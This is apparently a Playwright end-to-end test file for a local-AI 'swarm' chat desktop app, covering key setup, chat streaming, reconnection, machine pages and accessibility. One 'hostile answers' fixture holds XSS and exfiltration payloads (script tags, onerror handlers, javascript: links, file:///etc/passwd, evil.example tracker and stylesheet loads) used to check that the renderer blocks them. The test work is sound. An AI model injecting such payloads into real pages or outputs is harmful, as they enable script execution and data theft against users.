// The built window in Chromium against a played node (fake-node-server.ts).
import type { Page } from 'playwright';
import { describe, expect, test } from 'vitest';
import type { SwarmView } from '../../src-shared/swarm-view.ts';
import { dropFiles, expectAccessible, inDialog, openMachineCards, picture } from './browser.ts';
import { done, laptopView, placed, selfId } from './played-household.ts';
import { fakeKey } from './played-secrets.ts';
import { alone, answer, ask, clipboard, firstRun, playedWindows } from './played-window.ts';

const long = process.env['AXON_LONG'] === '1';

const open = playedWindows();

describe('first run', () => {
  test('a swarm in one click; the token leaves the address; nothing is reported amiss', async () => {
    const { page, node, faults, outside } = await open(firstRun());
    expect(await page.getByTestId('machine-name').inputValue()).toBe('thinkpad');
    await page.getByTestId('first-run-create').click();
    await page.getByTestId('composer').waitFor();
    expect(node.calls.map(({ name }) => name)).toContain('key.create');
    expect(new URL(page.url()).hash).toBe('');
    expect({ faults, outside }).toEqual({ faults: [], outside: [] });
  });

  test('by keyboard alone: name, create, ask', async () => {
    const { page, node } = await open(firstRun());
    await page.getByTestId('first-run-create').waitFor();
    await page.keyboard.press('Tab');
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type('library');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.getByTestId('role-toggle').focus();
    await page.keyboard.press('Space');
    await expect.poll(() => page.getByTestId('role-state').textContent()).toContain('ready');
    await page.getByTestId('composer').focus();
    await page.keyboard.type('hello');
    await page.keyboard.press('Enter');
    await answer(page, 'done').waitFor();
    expect(node.view().settings.name).toBe('library');
  });

  test('a dropped swarm.key is taken; the key shows up nowhere in the page', async () => {
    const { page, node } = await open(firstRun());
    await page.getByTestId('first-run-join').waitFor();
    await dropFiles(page, [{ name: 'swarm.key', text: fakeKey }]);
    await page.getByTestId('waiting').waitFor();
    expect(node.view().key?.fingerprint).toBe('7b-10-ee-52');
    expect(await page.content()).not.toContain('0123456789abcdef');
    // a page in a browser cannot delete it, and says so
    const left = page.getByTestId('key-file-left');
    await left.waitFor();
    expect(await left.textContent()).toContain('do it yourself');
    expect(await page.getByTestId('key-file-remove').count()).toBe(0);
    await expectAccessible(page, 'the file of the key');
    await picture(page, 'key-file-by-hand');
    await page.getByTestId('key-file-keep').click();
    await left.waitFor({ state: 'detached' });
  });

  test('a chosen file is taken too', async () => {
    const { page } = await open(firstRun());
    await page.getByTestId('key-file-input').setInputFiles({ name: 'swarm.key', mimeType: 'text/plain', buffer: Buffer.from(fakeKey) });
    await page.getByTestId('waiting').waitFor();
  });

  test('each bad file has its own words and changes nothing', async () => {
    const { page, node } = await open(firstRun());
    await page.getByTestId('first-run-join').waitFor();
    const said = new Set<string>();
    const bad = [
      [{ name: 'wrong-header', text: 'hello' }],
      [{ name: 'short', text: fakeKey.slice(0, -1) }],
      [{ name: 'empty', text: '' }],
      [{ name: 'large', text: '', bytes: 1_000_000 }],
      [{ name: 'picture.png', text: '\x89PNG\r\n' }],
      [
        { name: 'a', text: fakeKey },
        { name: 'b', text: fakeKey },
      ],
    ];
    for (const files of bad) {
      await dropFiles(page, files);
      const words = page.getByTestId('key-failure');
      await words.waitFor();
      said.add((await words.getAttribute('data-code')) + ((await words.textContent()) ?? ''));
      await page.keyboard.press('Escape');
      await words.waitFor({ state: 'detached' });
    }
    expect(said.size).toBe(bad.length);
    expect(node.view().key).toBeNull();
    // Of a megabyte only the head was sent.
    const sent = node.calls.filter(({ name }) => name === 'key.preview').map(({ input }) => input as { content: number; size: number });
    expect(sent.find(({ size }) => size === 1_000_000)?.content).toBeLessThan(6000);
  });
});

describe('the key of a swarm', () => {
  test('is replaced only after a yes', async () => {
    const { page, node } = await open();
    await page.getByTestId('composer').waitFor();
    await dropFiles(page, [{ name: 'swarm.key', text: fakeKey }]);
    await page.getByTestId('key-replace').waitFor();
    await page.keyboard.press('Escape');
    await page.getByTestId('key-replace').waitFor({ state: 'detached' });
    expect(node.view().key?.fingerprint).toBe('4f-a2-09-1c');
    await dropFiles(page, [{ name: 'swarm.key', text: fakeKey }]);
    await page.getByTestId('key-replace').click();
    await expect.poll(() => node.view().key?.fingerprint).toBe('7b-10-ee-52');
  });

  test('is saved and copied without entering the page', async () => {
    const { page } = await open();
    await page.getByTestId('settings-open').click();
    const download = page.waitForEvent('download');
    await page.getByTestId('key-card').getByTestId('key-save').click();
    await page.getByTestId('key-export-confirm').click();
    expect((await download).suggestedFilename()).toBe('swarm.key');
    await page.getByTestId('key-card').getByTestId('key-copy').click();
    await page.getByTestId('key-export-confirm').click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('/key/swarm/psk/1.0.0/');
    expect(await page.content()).not.toContain('0123456789abcdef');
  });

  test('leaving asks first', async () => {
    const { page, node } = await open();
    await page.getByTestId('settings-open').click();
    await page.getByTestId('key-leave').click();
    expect(node.view().key).not.toBeNull();
    await page.getByTestId('key-leave-confirm').click();
    await page.getByTestId('first-run-create').waitFor();
  });
});

describe('chat', () => {
  test('says what it waits for, streams, and names who answered and why', async () => {
    const { page, node } = await open();
    const queued = Promise.withResolvers<void>();
    const loading = Promise.withResolvers<void>();
    const reading = Promise.withResolvers<void>();
    node.script(() => [
      placed(),
      { kind: 'queued', position: 2 },
      { until: queued.promise },
      { kind: 'loading', model: 'qwen3:8b', progress: 0.65 },
      { until: loading.promise },
      { kind: 'reading', progress: 0.4 },
      { until: reading.promise },
      { kind: 'text', text: 'It **works**.' },
      done(),
    ]);
    await ask(page, 'Does it?');
    await page.locator('[data-phase=queued]').waitFor();
    expect(await page.getByTestId('answer-phase').textContent()).toContain('2nd in line on GPU-DESKTOP');
    queued.resolve();
    await page.locator('[data-phase=loading]').waitFor();
    expect(await page.getByTestId('answer-phase').textContent()).toContain('65%');
    loading.resolve();
    await page.locator('[data-phase=reading]').waitFor();
    expect(await page.getByTestId('answer-phase').textContent()).toBe('GPU-DESKTOP is reading your words40%');
    expect(await page.getByTestId('answer-phase').getByRole('progressbar').getAttribute('value')).toBe('0.4');
    reading.resolve();
    await answer(page, 'done').waitFor();
    expect(await answer(page, 'done').locator('strong').textContent()).toBe('works');
    expect((await page.getByTestId('answer-line').textContent())?.replaceAll('\u00a0', ' ')).toBe(
      'GPU-DESKTOP · smollm2-135m-instruct · 42 tok/s · first token 0.6 s · 312 tokens',
    );
    await page.getByTestId('answer-line').click();
    const why = await page.getByTestId('answer-why').textContent();
    for (const word of ['GPU-DESKTOP', 'mac-mini', 'thinkpad', 'does not answer for others']) expect(why).toContain(word);
    expect(await page.getByTestId('announcer').textContent()).toBe('The answer is complete.');
  });

  test('2,000 pieces come out byte for byte', async () => {
    const { page, node } = await open();
    const pieces = Array.from({ length: 2000 }, (_, at) => `w${at}${at % 40 === 39 ? '\n\n' : ' '}`);
    node.script(() => [placed(), ...pieces.map((text) => ({ kind: 'text' as const, text })), done(2000)]);
    await ask(page, 'Much');
    await answer(page, 'done').waitFor();
    await answer(page, 'done').getByRole('button', { name: 'Copy the answer' }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(pieces.join(''));
  });

  test('Esc stops at the node; the partial stays; asking again replaces it', async () => {
    const { page, node } = await open();
    node.script(() => [placed(), { kind: 'text', text: 'half an ans' }, { hold: true }]);
    await ask(page, 'Long story?');
    await page.getByText('half an ans').waitFor();
    await page.keyboard.press('Escape');
    await answer(page, 'stopped').waitFor();
    await expect.poll(() => node.aborted()).toBe(1);
    expect(await answer(page, 'stopped').textContent()).toContain('half an ans');
    node.script(() => [placed(), { kind: 'text', text: 'whole' }, done()]);
    await page.getByTestId('again').click();
    await answer(page, 'done').waitFor();
    expect(await page.getByTestId('answer').count()).toBe(1);
  });

  test('a lost leader is said in words; partial and next text are kept; retry works', async () => {
    const { page, node } = await open();
    node.script(() => [placed(), { kind: 'text', text: 'It begins' }, { fail: 'leader-lost' }]);
    await ask(page, 'What?');
    await page.getByTestId('answer-failure').waitFor();
    expect(await answer(page, 'failed').textContent()).toContain('It begins');
    node.change((view) => nobodyLeads(view));
    await page.getByTestId('banner').waitFor();
    await ask(page, 'my next thought');
    expect(await page.getByTestId('composer').inputValue()).toBe('my next thought');
    expect(await page.getByTestId('composer-blocked').textContent()).toContain('kept');
    node.change(() => laptopView());
    node.script(() => [placed(), { kind: 'text', text: 'whole' }, done()]);
    await page.getByTestId('retry').click();
    await answer(page, 'done').waitFor();
    expect(await page.getByTestId('composer').inputValue()).toBe('my next thought');
  });

  test('drafts and conversations survive a reload; rename and delete', async () => {
    const { page, node } = await open();
    await ask(page, 'First question');
    await answer(page, 'done').waitFor();
    await page.getByTestId('composer').fill('unsent');
    await expect.poll(() => [...node.conversations.values()][0]?.draft).toBe('unsent');
    await page.reload();
    await page.getByTestId('conversation-item').getByText('First question').click();
    await expect.poll(() => page.getByTestId('composer').inputValue()).toBe('unsent');
    await page.getByRole('button', { name: 'More about First question' }).click();
    await page.getByRole('menuitem', { name: 'Rename' }).click();
    await page.getByRole('textbox', { name: 'Name' }).fill('Better');
    await page.keyboard.press('Enter');
    await page.getByTestId('conversation-item').getByText('Better').waitFor();
    await page.getByRole('button', { name: 'More about Better' }).click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    await expect.poll(() => node.conversations.size).toBe(0);
    await page.getByTestId('new-chat').click();
    await page.getByTestId('chat-empty').waitFor();
  });

  test('a picked model is asked for', async () => {
    const { page, node } = await open();
    await page.getByTestId('model-picker').click();
    await page.getByRole('option', { name: /qwen3:8b/ }).click();
    await ask(page, 'With that one');
    await answer(page, 'done').waitFor();
    expect(node.calls.find(({ name }) => name === 'conversations.send')?.input).toMatchObject({ model: 'qwen3:8b' });
  });

  test('a broken link shows a banner, comes back, and loses no text', async () => {
    const { page, node } = await open();
    await page.getByTestId('composer').fill('precious');
    node.cut({ refuse: true });
    await page.getByTestId('banner').waitFor();
    await page.getByTestId('composer').fill('precious words');
    node.heal();
    await page.getByTestId('banner').waitFor({ state: 'detached' });
    expect(await page.getByTestId('composer').inputValue()).toBe('precious words');
    await page.getByTestId('send').click();
    await answer(page, 'done').waitFor();
    expect(await page.getByTestId('question').textContent()).toBe('precious words');
  });
});

const hostile = `# Hi
![tracker](https://evil.example/pixel.png?secret=1) ![local](file:///etc/passwd) ![data](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)
[script](javascript:alert(1)) [file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>) [real](https://example.org/path?q=1)
<script>alert(1)</script><img src=x onerror=alert(1)><img src="https://evil.example/raw.png">
<iframe src="https://evil.example/"></iframe><svg onload=alert(1)></svg><style>@import url(https://evil.example/a.css);</style>
<link rel=stylesheet href=https://evil.example/b.css><video src=https://evil.example/v.mp4 autoplay></video>

<https://autolink.example/> and https://bare.example/ and [ref][r]

[r]: javascript:alert(2)

\`\`\`html
<script src="https://evil.example/x.js"></script>
\`\`\`
`;

describe('hostile answers', () => {
  test('load nothing, run nothing, link nowhere by themselves', async () => {
    const { page, node, outside, dialogs, faults, context } = await open();
    node.script(() => [placed(), ...hostile.split('').map((text) => ({ kind: 'text' as const, text })), done()]);
    await ask(page, 'Be nasty');
    await answer(page, 'done').waitFor();
    const inside = answer(page, 'done');
    expect(await inside.locator('script, iframe, img, video, object, embed, style, link, a[href]').count()).toBe(0);
    expect(await inside.getByTestId('image-chip').count()).toBe(3);
    const links = await inside.getByTestId('answer-link').allTextContents();
    expect(links).toEqual(['real', 'https://autolink.example/', 'https://bare.example/']);
    expect({ outside, dialogs, faults }).toEqual({ outside: [], dialogs: [], faults: [] });

    await inside.getByTestId('answer-link').first().click();
    expect(await page.getByTestId('link-address').textContent()).toBe('https://example.org/path?q=1');
    expect(outside).toEqual([]);
    const opened = context.waitForEvent('page');
    await page.getByTestId('link-open').click();
    await opened;
    await expect.poll(() => outside).toEqual(['https://example.org/path?q=1']);
  });

  test.each([
    ['a line of 1 MB', 'x'.repeat(1_000_000)],
    ['10,000 nested quotes', `${'> '.repeat(10_000)}x`],
    ['10,000 nested brackets', '['.repeat(10_000)],
    ['20,000 stars', '*a_ '.repeat(5000)],
  ])('%s leaves the window usable', async (_name, text) => {
    const { page, node } = await open();
    const pieces = text.match(/[\s\S]{1,60000}/g) ?? [];
    node.script(() => [placed(), ...pieces.map((piece) => ({ kind: 'text' as const, text: piece })), done()]);
    await ask(page, 'Heavy');
    await answer(page, 'done').waitFor();
    await page.getByTestId('composer').fill('still here');
    expect(await page.getByTestId('composer').inputValue()).toBe('still here');
  });
});

describe('machines, role, settings', () => {
  test('one click makes this computer a leader; the words follow the facts', async () => {
    const { page, node } = await open();
    const state = page.getByTestId('role-state');
    await page.getByTestId('role-toggle').click({ force: true });
    await expect.poll(() => state.textContent()).toContain('ready, 1 model');
    const say = async (actual: SwarmView['self']['role']['actual'], words: string): Promise<void> => {
      node.change((view) => ({ ...view, self: { ...view.self, role: { wanted: 'leader', actual } } }));
      await expect.poll(() => state.textContent()).toContain(words);
    };
    await say({ kind: 'starting', step: 'engine' }, 'starting engine…');
    await say({ kind: 'starting', step: 'model', progress: 0.4 }, 'loading model 40%');
    await say({ kind: 'leader', models: 1, running: 2, waiting: 3 }, '2 running, 3 waiting');
    await say({ kind: 'draining', running: 1 }, 'finishing 1 answer…');
    await say({ kind: 'troubled', failure: { code: 'engine-missing', message: 'x' } }, 'engine');
  });

  test('the machines page shows facts, unknown ones as unknown, and takes an address', async () => {
    const { page, node } = await open(laptopView({ otherSwarms: 1 }));
    await page.getByTestId('peer-row').first().waitFor();
    await expect.poll(() => page.getByTestId('peer-row').count()).toBe(2);
    await openMachineCards(page);
    const cards = page.getByTestId('machine-card');
    expect(await cards.count()).toBe(3);
    expect(await cards.nth(0).textContent()).toContain('no GPU');
    expect(await cards.nth(1).textContent()).toContain('NVIDIA GeForce RTX 4090 · 18 GB free of 24 GB');
    expect(await cards.nth(1).textContent()).toContain('3 of 4 free');
    await page.getByTestId('other-swarm').waitFor();
    await page.getByTestId('address-input').fill('no address!');
    await page.getByTestId('address-add').click();
    await page
      .getByText('That is not an address')
      .or(page.getByText(/not an address/i))
      .first()
      .waitFor();
    await page.getByTestId('address-input').fill('192.168.1.77:4101');
    await page.getByTestId('address-add').click();
    await expect.poll(() => node.calls.findLast(({ name }) => name === 'peers.add')?.input).toEqual({ address: '192.168.1.77:4101' });
    // the call ends when the other machine was reached, and what is said of it when the next one is typed
    await page.getByText('Connected to 192.168.1.77:4101.').waitFor();
    await page.getByTestId('address-input').fill('1');
    await page.getByText('Connected to 192.168.1.77:4101.').waitFor({ state: 'detached' });
  });

  test('the machines page shows this machine’s address to be typed on another one, and copies it', async () => {
    const view = laptopView({ peers: [] });
    const addresses = ['127.0.0.1', '172.17.0.1', '192.168.1.31'].map((host) => `/ip4/${host}/tcp/4101/p2p/${selfId}`);
    const interfaces = [{ name: 'docker0', address: '172.17.0.1' }];
    const { page, node } = await open({
      ...view,
      self: { ...view.self, addresses, hardware: { ...view.self.hardware, addresses: interfaces } },
    });
    await openMachineCards(page);
    for (const place of [page.getByTestId('machine-card').first(), page.getByTestId('own-addresses')]) {
      expect(await place.getByTestId('own-address').allTextContents()).toEqual(['192.168.1.31:4101']);
      await page.evaluate(() => navigator.clipboard.writeText('something else'));
      await place.getByTestId('own-address-copy').click();
      await expect.poll(() => clipboard(page)).toBe('192.168.1.31:4101');
    }
    // of another machine it is not known which of its addresses is good from elsewhere
    expect(await page.getByTestId('own-address').count()).toBe(2);
    node.change((old) => ({ ...old, self: { ...old.self, addresses: addresses.slice(0, 1) } }));
    await expect.poll(() => page.getByTestId('own-address').count()).toBe(0);
    expect(await page.getByTestId('own-addresses').count()).toBe(0);
  });

  test('settings are saved at once', async () => {
    const { page, node } = await open();
    await page.getByTestId('settings-open').click();
    await inDialog(page);
    await page.getByTestId('settings-name').fill('attic');
    await page.keyboard.press('Enter');
    await expect.poll(() => node.view().settings.name).toBe('attic');
    await page.getByText('Dark', { exact: true }).click();
    await expect.poll(() => page.evaluate(() => document.documentElement.dataset.mantineColorScheme)).toBe('dark');
  });
});

describe.each(['light', 'dark'] as const)('axe and small windows, %s', (scheme) => {
  const sizes = [
    { width: 1280, height: 800 },
    { width: 360, height: 560 },
  ];
  // colours hang on the scheme and what fits on the width: each is seen once, and all four together with AXON_LONG=1
  const some = sizes.filter(({ width }) => long || (scheme === 'light') === (width === 1280));
  test.each(some)('$width x $height', async (size) => {
    const fits = (page: Page): Promise<boolean> => page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth);
    const check = async (page: Page, where: string): Promise<void> => {
      await expectAccessible(page, `${where} ${scheme} ${size.width}`);
      expect(await fits(page), where).toBe(true);
      await picture(page, `window-${where.replaceAll(' ', '-')}-${scheme}-${size.width}`);
    };
    const first = await open(firstRun(), { ...size, scheme });
    await first.page.getByTestId('first-run-create').waitFor();
    await check(first.page, 'first run');
    await dropFiles(first.page, [{ name: 'x', text: 'no key' }]);
    await first.page.getByTestId('key-failure').waitFor();
    await check(first.page, 'bad key');

    const empty = await open(alone(), { ...size, scheme });
    await empty.page.getByTestId('answer-here').waitFor();
    await check(empty.page, 'nobody answers');

    const { page, node } = await open(laptopView({ otherSwarms: 1 }), { ...size, scheme });
    node.script(() => [
      placed(),
      {
        kind: 'text',
        text: '# T\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1\n```\n\n- [x] done\n\n![p](https://x.example/p.png) [l](https://x.example/)',
      },
      done(),
    ]);
    await ask(page, 'Show all');
    await answer(page, 'done').waitFor();
    node.script(() => [placed(), { kind: 'text', text: 'half' }, { fail: 'leader-lost' }]);
    await ask(page, 'And fail');
    await page.getByTestId('answer-failure').waitFor();
    node.change((view) => nobodyLeads(view));
    await page.getByTestId('banner').waitFor();
    await check(page, 'chat');
    if (size.width < 760) await page.getByTestId('column-open').click();
    await openMachineCards(page);
    await expect.poll(() => page.locator('[role=dialog]').count()).toBe(0);
    await check(page, 'machines');
    if (size.width < 760) await page.getByTestId('column-open').click();
    await page.getByTestId('settings-open').click();
    await page.getByTestId('key-card').waitFor();
    await check(page, 'settings');
  });
});

function nobodyLeads(view: SwarmView): SwarmView {
  return {
    ...view,
    peers: view.peers.map((peer) => ({ ...peer, state: 'away' as const })),
    self: { ...view.self, role: { wanted: 'subordinate', actual: { kind: 'subordinate', leader: null } } },
  };
}
